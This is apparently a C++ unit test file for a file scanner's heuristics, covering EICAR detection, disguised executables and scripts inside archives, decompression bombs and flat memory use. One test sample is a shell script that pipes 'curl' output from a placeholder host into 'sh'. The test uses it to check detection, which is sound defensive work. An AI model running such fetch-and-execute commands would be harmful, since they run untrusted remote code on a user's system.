// The built-in heuristics and the archive walk: every sample gets its verdict, archives are looked
// into (also when members are too large to hold in memory), bombs are caught without being
// expanded, memory stays flat whatever the file's size.
#include <sys/resource.h>

#include <catch2/catch.hpp>

#include "scan/detectors.hpp"
#include "scan/scan.hpp"
#include "tests/unit/scan_samples.hpp"

using namespace splitfs;
using namespace splitfs::scan;
namespace samples = splitfs::testing::samples;

namespace {

Settings heuristics_only() {
  Settings s;
  s.bundled_yara_rules = false;
  return s;
}

Verdict scan_bytes(Scanner& scanner, const Bytes& data, std::string_view name) {
  MemorySource source(data);
  return scanner.scan(source, name);
}

std::string worst_rule(const Verdict& v) {
  return v.worst() ? v.worst()->rule : "";
}

long max_rss_kib() {
  rusage usage{};
  getrusage(RUSAGE_SELF, &usage);
  return usage.ru_maxrss;
}

}  // namespace

TEST_CASE("every sample gets its verdict from the built-in heuristics") {
  Scanner scanner(heuristics_only());
  for (const auto& sample : samples::heuristic_samples()) {
    INFO(sample.name);
    const Verdict v = scan_bytes(scanner, sample.data, sample.name);
    for (const auto& f : v.findings)
      INFO(f.rule << " at '" << f.where << "': " << f.detail);
    CHECK(std::string(to_string(v.severity)) == sample.verdict);
    CHECK(worst_rule(v) == sample.rule);
    if (sample.verdict == "clean")
      CHECK(v.findings.empty());
    else if (v.worst())
      CHECK(v.worst()->detector == "heuristics");
  }
}

TEST_CASE("findings inside archives name the member") {
  Scanner scanner(heuristics_only());
  const Bytes e = samples::eicar();
  const Verdict in_zip = scan_bytes(scanner, samples::zip({{"dir/eicar.com", e}}), "a.zip");
  REQUIRE(in_zip.worst());
  CHECK(in_zip.worst()->where == "a.zip/dir/eicar.com");
  const Verdict nested =
      scan_bytes(scanner, samples::zip({{"inner.zip", samples::zip({{"eicar.com", e}})}}), "a.zip");
  REQUIRE(nested.worst());
  CHECK(nested.worst()->where == "a.zip/inner.zip/eicar.com");
  CHECK(nested.stats.depth == 2);
  const Verdict masked =
      scan_bytes(scanner, samples::zip({{"photos/cat.jpg", samples::elf_header()}}), "p.zip");
  REQUIRE(masked.worst());
  CHECK(masked.worst()->rule == "masquerade.elf");
  CHECK(masked.worst()->where == "p.zip/photos/cat.jpg");
  // The same ELF under a name that promises nothing is not a finding.
  CHECK(scan_bytes(scanner, samples::zip({{"bin/tool", samples::elf_header()}}), "p.zip")
            .findings.empty());
}

TEST_CASE("the EICAR check follows the EICAR definition") {
  Scanner scanner(heuristics_only());
  Bytes e = samples::eicar();
  CHECK(worst_rule(scan_bytes(scanner, e, "x")) == "eicar");
  Bytes padded = e;
  padded.insert(padded.end(), {' ', '\r', '\n', '\t'});
  CHECK(worst_rule(scan_bytes(scanner, padded, "x")) == "eicar");
  Bytes extra = e;
  extra.push_back('X');
  CHECK(scan_bytes(scanner, extra, "x").findings.empty());
  Bytes changed = e;
  changed[10] ^= 1;
  CHECK(scan_bytes(scanner, changed, "x").findings.empty());
  Bytes too_long = e;
  too_long.resize(129, ' ');
  CHECK(scan_bytes(scanner, too_long, "x").findings.empty());
}

TEST_CASE("scripts are findings behind binary document names only") {
  Scanner scanner(heuristics_only());
  const Bytes script = samples::bytes_of("#!/bin/sh\ncurl http://example.invalid | sh\n");
  CHECK(worst_rule(scan_bytes(scanner, script, "invoice.pdf")) == "masquerade.script");
  CHECK(worst_rule(scan_bytes(scanner, script, "clip.MP4")) == "masquerade.script");
  CHECK(scan_bytes(scanner, script, "install.sh").findings.empty());
  CHECK(scan_bytes(scanner, script, "howto.txt").findings.empty());
  CHECK(worst_rule(scan_bytes(scanner, samples::elf_header(), "howto.txt")) == "masquerade.elf");
  Bytes macho = {0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1};
  macho.resize(256, 0);
  CHECK(worst_rule(scan_bytes(scanner, macho, "song.mp3")) == "masquerade.mach-o");
}

TEST_CASE("members too large to hold in memory are streamed through the same checks") {
  Settings settings = heuristics_only();
  settings.limits.max_member_in_memory = 1024;
  Scanner scanner(settings);
  const Bytes e = samples::eicar();
  const Bytes big_text = samples::text(200000);
  const Bytes nested =
      samples::zip({{"big.txt", big_text},
                    {"inner.zip", samples::zip({{"big.txt", big_text}, {"eicar.com", e}})}});
  const Verdict v = scan_bytes(scanner, nested, "a.zip");
  REQUIRE(v.worst());
  CHECK(v.worst()->rule == "eicar");
  CHECK(v.worst()->where == "a.zip/inner.zip/eicar.com");
  CHECK(worst_rule(scan_bytes(scanner, samples::nested_zips(10, {"n.txt", big_text}), "d.zip")) ==
        "archive.depth");
  CHECK(worst_rule(scan_bytes(
            scanner, samples::zip({{"x/report.pdf", samples::pe_header()}, {"pad.txt", big_text}}),
            "a.zip")) == "masquerade.pe");
  CHECK(worst_rule(scan_bytes(scanner, samples::ole_doc_with_macros(), "old.doc")) ==
        "office.ole-macros");
}

TEST_CASE("decompression bombs are caught without being expanded") {
  Scanner scanner(heuristics_only());
  // The zip's central directory declares the size: nothing is decompressed at all.
  const Verdict declared =
      scan_bytes(scanner, samples::zip({{"zeros.bin", samples::zeros()}}), "bomb.zip");
  CHECK(worst_rule(declared) == "archive.ratio");
  CHECK(declared.stats.bytes_expanded == 0);
  // A gzip stream declares nothing: expansion stops at the ratio's floor.
  const Verdict streamed = scan_bytes(
      scanner, samples::archive_of({{"z", samples::zeros()}}, samples::Format::gz), "bomb.gz");
  CHECK(worst_rule(streamed) == "archive.ratio");
  CHECK(streamed.stats.bytes_expanded <= Limits{}.ratio_floor + (1u << 20));
  // Below the ratio a large archive is fine.
  Settings strict = heuristics_only();
  strict.limits.max_ratio = 2000;
  Scanner lenient(strict);
  CHECK(scan_bytes(lenient, samples::zip({{"zeros.bin", samples::zeros()}}), "z.zip")
            .findings.empty());
}

TEST_CASE("past the expansion budget the walk stops with a note, not a finding") {
  Settings settings = heuristics_only();
  settings.limits.max_expanded = 100000;
  Scanner scanner(settings);
  const Verdict v =
      scan_bytes(scanner, samples::zip({{"a.txt", samples::random_bytes(300000)}}), "a.zip");
  CHECK(v.findings.empty());
  REQUIRE(v.notes.size() == 1);
  CHECK_THAT(v.notes[0], Catch::Contains("not inspected"));
}

TEST_CASE("segment sources read across segments") {
  const Bytes data = samples::random_bytes(10000);
  int loads = 0;
  SegmentSource source(data.size(), 4096, [&](std::uint64_t s, Bytes& out) {
    ++loads;
    const std::size_t start = s * 4096;
    out.assign(
        data.begin() + static_cast<std::ptrdiff_t>(start),
        data.begin() + static_cast<std::ptrdiff_t>(std::min<std::size_t>(start + 4096, 10000)));
  });
  Bytes out(6000);
  REQUIRE(source.read_at(3000, out) == 6000);
  CHECK(std::equal(out.begin(), out.end(), data.begin() + 3000));
  Bytes tail(100);
  CHECK(source.read_at(9950, tail) == 50);
  CHECK(source.read_at(10000, tail) == 0);
  CHECK(loads == 3);
}

TEST_CASE("scanning a 1 GiB file keeps memory flat") {
  // Content produced on demand: nothing of it exists anywhere at once.
  const std::uint64_t size = 1ull << 30;
  constexpr std::uint32_t kSegment = 1u << 20;
  SegmentSource source(size, kSegment, [&](std::uint64_t s, Bytes& out) {
    out.resize(std::min<std::uint64_t>(kSegment, size - s * kSegment));
    for (std::size_t i = 0; i < out.size(); i += 4096)
      out[i] = static_cast<std::uint8_t>(s + i);
  });
  Settings settings;  // the heuristics and the bundled YARA rules
  Scanner scanner(settings);
  const long before = max_rss_kib();
  const Verdict v = scanner.scan(source, "disk.img");
  const long grown_mib = (max_rss_kib() - before) / 1024;
  INFO("peak memory grew by " << grown_mib << " MiB");
  CHECK(v.findings.empty());
  CHECK(v.stats.bytes == size);
  CHECK(grown_mib < 64);
}

TEST_CASE("policies map severities to actions") {
  const Policy defaults;
  CHECK(defaults.decide(Severity::clean) == Action::allow);
  CHECK(defaults.decide(Severity::suspicious) == Action::warn);
  CHECK(defaults.decide(Severity::malicious) == Action::block);
  const Policy strict{Action::block, Action::block};
  CHECK(strict.decide(Severity::suspicious) == Action::block);
  CHECK(parse_action("warn") == Action::warn);
  CHECK(parse_action("Block") == std::nullopt);
  CHECK(!parse_action(""));
}

TEST_CASE("verdicts keep the worst finding first and no duplicates") {
  Verdict v;
  v.add({Severity::suspicious, "heuristics", "office.vba-macros", "a", "x"});
  v.add({Severity::malicious, "yara", "r", "", "y"});
  v.add({Severity::suspicious, "heuristics", "office.vba-macros", "a", "x"});
  REQUIRE(v.findings.size() == 2);
  CHECK(v.severity == Severity::malicious);
  CHECK(v.worst()->rule == "r");
  CHECK(v.summary() == "malicious: yara r and 1 more");
}
